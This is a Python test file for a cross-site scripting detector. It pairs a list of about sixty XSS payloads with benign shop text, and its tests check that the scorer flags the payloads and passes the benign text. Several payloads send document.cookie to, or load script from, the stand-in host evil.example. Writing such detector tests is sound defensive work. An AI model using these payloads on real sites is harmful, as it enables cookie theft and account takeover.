"""HTML and script: what a browser would run convicts, what editors and customers write does not."""

from __future__ import annotations

import csv
import gzip
import hashlib
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.guard.inspector.sinks.scoring import QUERY, growth, read_though_ordinary, score

from shangdun_guard.inspector.sink import Slot
from shangdun_guard.inspector.sinks.xss import SINK, javascript, tokens

ATTACKS = {
    "script": "<script>alert(1)</script>",
    "script, mixed case, odd blanks": "<ScRiPt\x0c>prompt(7)</sCrIpT\n>",
    "script without an end": "x<script>alert(document.domain)//",
    "script in the script that a filter cuts": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script of a foreign host": "<script src=//evil.example/x.js></script>",
    "script from data": '"><script src=data:,alert(1)></script>',
    "conditional comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "slashes separate": "<svg/onload=alert`1`//",
    "no blank behind a quote": "<img src=\"x\"onerror='alert(1)'>",
    "entities in a handler": "<img src=x onerror=&#97;lert&lpar;1)>",
    "named handler of an unknown element": "<xss contenteditable onbeforeinput=alert(1)>x",
    "animation": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "style of an element of SVG": "<math><style></math><img src onerror=alert(1)>",
    "no script element": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "javascript address": "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "javascript address with a comment": "javascript://%0aalert(1)",
    "vbscript": "<a href=vbscript:msgbox(1)>x</a>",
    "form action": "<form><button formaction=javascript:alert(1)>go",
    "animated address": "<svg><a><animate attributeName=href values=javascript:alert(1)>",
    "animated list": "<svg><a><animate attributeName=href values='http://a;javascript:alert(1)'>",
    "data document": "<iframe src='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>",
    "srcdoc": "<iframe srcdoc='&lt;svg onload=alert(1)&gt;'>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "base": "<base href=//evil.example/>",
    "expression of a style": '<div style="width:expr/**/ession(alert(1))">',
    "binding": '<p style="-moz-binding:url(//evil.example/x.xml#x)">',
    "attribute, double quotes": '" autofocus onfocus="alert(1)',
    "attribute, single quotes": "x' onmouseover='confirm(document.cookie)",
    "attribute, slash": '"autofocus/onfocus=alert(1)//',
    "attribute without quotes": "x onmouseover=alert(1)",
    "string": "';alert(1)//",
    "string, escaped by the page": "\\';alert(1)//",
    "string, arithmetic": '"-prompt(8)-"',
    "string inside calls": "');document.location='//evil.example/'+document.cookie;//",
    "template literal": "${alert(1)}",
    "script ended": "</script><svg onload=alert(1)>",
    "title ended": "</title><img src=x onerror=alert(1)>",
    "computed name": "<script>top['al'+'ert'](1)</script>",
    "name of regular expressions": "<svg onload=self[/al/.source+/ert/.source](1)>",
    "escaped name": "<script>\\u0061l\\u{65}rt(1)</script>",
    "octal name": '<script>[]["\\143onstructor"]["\\143onstructor"]("x")()</script>',
    "thrown": "<script>onerror=alert;throw 1</script>",
    "handed on": "<script>[1].find(alert)</script>",
    "decoded": "<script>eval(atob('YWxlcnQoMSk='))</script>",
    "from codes": "<img src=x onerror=eval(String.fromCharCode(97,108))>",
    "imported": "<svg onload=import('//evil.example/x')>",
    "cookie sent": "<img src=x onerror=\"fetch('//evil.example/?'+document.cookie)\">",
    "image of a cookie": "<script>new Image().src='//e.example/?'+document.cookie</script>",
    "assigned place": "<script>location='javascript:alert\\x281\\x29'</script>",
    "signs alone": "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]][([][(![]+[])[+[]]]+[])[!+[]]]()",
    "AngularJS": "{{constructor.constructor('alert(1)')()}}",
    "AngularJS directive": '<input autofocus ng-focus="$event.view.alert(1)">',
    "Vue": "{{_c.constructor`alert(1)`()}}",
    "bare call": "alert(document.cookie)",
    "bare call in a script": "1;alert(1);",
    "string, a foreign place": "'-window.location='http://evil.example/'-'",
    "source of a script": "42 src=http://evil.example/x.js",
    "window under another name": "<b onclick=\"x='al',y=top;x+='ert';y[x](1)\">b</b>",
    "signs alone, as a form sends them": "[][(![] [])[ []] (![] [])[![] ![]]][([][(![] [])]])()",
    "refresh without a name": "<meta http-equiv=refresh content='0; javascript:alert(1)'>",
    "file name": "<img src=x onerror=alert(1)>.png",
}  # fmt: skip
HONEST = {
    "rich text": "<p>Our <b>best</b> <span style='color:#f00'>red</span> <img src='/m/a.jpg'"
    " alt='shoe'> <a href='https://shop.example/p/1'>more</a></p>",
    "figure with a fallback": "<figure><img src='/a' onerror=\"this.src='/none'\"></figure>",
    "video": '<iframe width="560" height="315" src="https://www.youtube.com/embed/a"></iframe>',
    "embed of a partner": '<iframe width="600" height="400" src="https://x.example/c"></iframe>',
    "table": "<table border=1><tr><td>M</td><td>L</td></tr></table>",
    "address": "Li Wei <li.wei@shop.example>",
    "comparison": "if x < y && z > w (or not)",
    "heart": "I <3 this shop (really)!",
    "generics": "Map<String, List<Integer>> m = new HashMap<>();",
    "soap": '<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body/></s:Envelope>',
    "svg": '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>',
    "structured data": '<script type="application/ld+json">{"@type":"Product"}</script>',
    "tag manager": '<script async src="https://www.googletagmanager.com/gtag/js?id=G-1"></script>',
    "void": "javascript:void(0)",
    "back": "javascript:history.back()",
    "mustache": "Hello {{name}}, {{#each items}}{{title}}{{/each}}",
    "liquid": "{{ product.price | times: 0.9 | money }}",
    "template string": "`Hello ${user.name}, ${cart.length} items`",
    "vue": '<div :class="{a: b}" @click="add(item)" v-if="ok">{{ msg }}</div>',
    "react": "<button onClick={() => setCount(count + 1)}>Add</button>",
    "client hints": '"Chromium";v="128", "Not;A=Brand";v="24", "Google Chrome";v="128"',
    "browser": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)",
    "policy report": '{"csp-report":{"blocked-uri":"inline","script-sample":"alert(1)"}}',
    "stack": "TypeError: x is undefined\n  at Cart.render (https://shop.example/app.js:1:2345)",
    "graphql": 'query { product(id: "1") { name, price(currency: EUR) } }',
    "name": "O'Brien; (sales)",
    "title": "rock'n'roll (live)",
    "quotes": 'He said "wow"; then (laughing) left',
    "size": "5' x 7' - (framed)",
    "question": "Why does `<img src=x onerror=alert(1)>` run in my theme editor?",
    "question of a book": "Learn eval() and alert() in JavaScript",
    "ticket": "Hi,\n\nwhen I paste this:\n\n```html\n<script>\n  document.querySelector('#buy')"
    ".onclick = function () {\n    alert('Added!');\n  };\n</script>\n```\n\nit is dead.\nAnna",
    "handler of a ticket": 'The button is dead:\n<button onclick="addToCart(42)">Buy</button>',
    "asked first": "<form onsubmit=\"return confirm('Delete this item?')\">",
    "analytics": "<a onclick=\"ga('send','event','buy')\" href='/b'>Buy</a>",
    "beacon": '{"event":"onclick","target":"button#buy(1)"}',
    "sale": 'Die Werbung sagt "50%"; (nur heute)',
    "advice": "The value of 'aria-label' must tell it ('aria-live', 'aria-busy', role=alert, etc.)",
    "code of a report": "<script>\n  el.innerHTML = '<b>' + name + '</b>';\n</script>\n",
    "reload": '<a onclick="location.href = location.pathname + location.search">again</a>',
    "picture": "data:image/png;base64,iVBORw0KGgo=",
    "fonts": '<link rel="stylesheet" href="https://fonts.googleapis.com/css?family=Roboto">',
    "chinese": "<h1>标题</h1><p>中文描述（新款）</p>",
}  # fmt: skip


@pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS.keys())
def test_what_a_browser_would_run_convicts(text: str) -> None:
    assert score(SINK, text) >= 0


@pytest.mark.parametrize("text", HONEST.values(), ids=HONEST.keys())
def test_what_editors_and_customers_write_does_not(text: str) -> None:
    assert score(SINK, text) <= -0.5


def test_a_script_in_a_long_ticket_weighs_less_than_alone() -> None:
    script = "<script>\n  document.querySelector('#buy').focus();\n  render(cart);\n</script>\n"
    ticket = "Good morning,\nmy theme has this at its end and I wonder why it is slow.\n" * 9
    assert score(SINK, ticket + script) < score(SINK, "<script>render(cart)</script>")
    assert score(SINK, ticket + script) < -2


def test_code_in_marks_of_code_is_shown_and_not_run() -> None:
    code = "<script>\n  buy.addEventListener('click', function () { alert('Added!'); });\n</script>"
    assert score(SINK, 'I can\'t "buy":\n\n```html\n' + code + "\n```\n\nWhy?") < -0.4
    assert score(SINK, 'I can\'t "buy":\n\n' + code) >= 0


def test_a_hostile_script_convicts_inside_a_long_review() -> None:
    review = "The shoes fit well and the colour is as shown. " * 30
    assert score(SINK, review + "<img src=x onerror=alert(document.cookie)>" + review) >= 0


def test_a_sample_in_a_browsers_report_is_no_call() -> None:
    assert score(SINK, "alert(1)") >= 0
    assert score(SINK, "alert(1)", Slot("query", "code")) >= 0
    assert score(SINK, "alert(1)", Slot("json", "csp-report.script-sample")) < -3


def test_the_tokeniser_follows_the_standard() -> None:
    tags = tokens.tokenise("<!-- <i> --><a/b='1'c=2 d>x</a><p title=\"<b>\">< b><1><")
    assert [(tag.name, tag.closing) for tag in tags] == [("a", False), ("a", True), ("p", False)]
    assert [(one.name, one.value) for one in tags[0].attributes] == [
        ("b", "1"), ("c", "2"), ("d", None)
    ]  # fmt: skip
    assert tags[2].get("title") == "<b>"


def test_a_program_is_told_from_prose_by_its_grammar() -> None:
    assert javascript.read("alert(1)").grade == 2
    assert javascript.read("render(cart)").grade == 1
    assert javascript.read("'alert(1)'").grade == 0
    assert javascript.read("// alert(1)").grade == 0
    assert javascript.read("/* x */ {alert: 1}").grade == 0
    assert javascript.read("please alert the customer today").collisions >= 3


@pytest.mark.parametrize(
    "unit",
    [
        "<", "<a ", '<a b="', "<a b='<", "<!--", "<!-- --", "<script>", "</script", "<svg><style>",
        "<![CDATA[", "<a href='data:text/html,<", "<a srcdoc='<", "&#", "';", '"-', "`+${", "onx=",
        " onerror=a(", '"onload=', "onerror=throw ", "[[", "a[", "(/*", "\\u{", "{{a(", "document.",
        "location=", "expression(", "<a style='/*", "<meta http-equiv=refresh content='url=",
        "javascript:", "alert(", "import(", "eval(atob(", "\x00", "=", "\n", "{", "cookie;",
    ],
)  # fmt: skip
def test_time_is_linear(unit: str) -> None:
    assert growth(SINK, unit, 8_000) < 9


def test_ordinary_values_pass_at_a_glance() -> None:
    assert read_though_ordinary(SINK) == []


PIECES = st.sampled_from(
    ["<", ">", "'", '"', "`", "/", "=", "(", ")", "[", "]", "{", "}", "${", "script", "on", "load",
     "svg", " ", "\x00", "javascript:", "alert", "1", "<!--", "-->", "\\", "&#x61;", ";", "//"]
)  # fmt: skip


@given(st.text() | st.lists(PIECES, max_size=40).map("".join))
def test_it_never_raises_and_its_places_lie_inside(text: str) -> None:
    for sign in SINK.judge(text, QUERY):
        assert 0 <= sign.start <= sign.end <= len(text)


def test_codes_have_weights_and_sentences() -> None:
    assert SINK.weights.keys() == SINK.sentences.keys()
    assert all(code.startswith("xss.") for code in SINK.weights)


def test_parameters_of_a_public_set(shared_data: Path) -> None:
    """The half that was looked at while this sink was written, and honest values of all kinds."""
    with gzip.open(shared_data / "httpparams.csv.gz", "rt") as file:
        rows = [(row[0], row[2]) for row in csv.reader(file)][1:]
    seen = [v for v, kind in rows if kind == "xss" and hashlib.sha256(v.encode()).digest()[0] & 1]
    found = sum(score(SINK, value) >= 0 for value in seen)
    assert found / len(seen) >= 0.9
    honest = [value for value, kind in rows if kind == "norm"]
    assert sum(score(SINK, value) >= 0 for value in honest) == 0
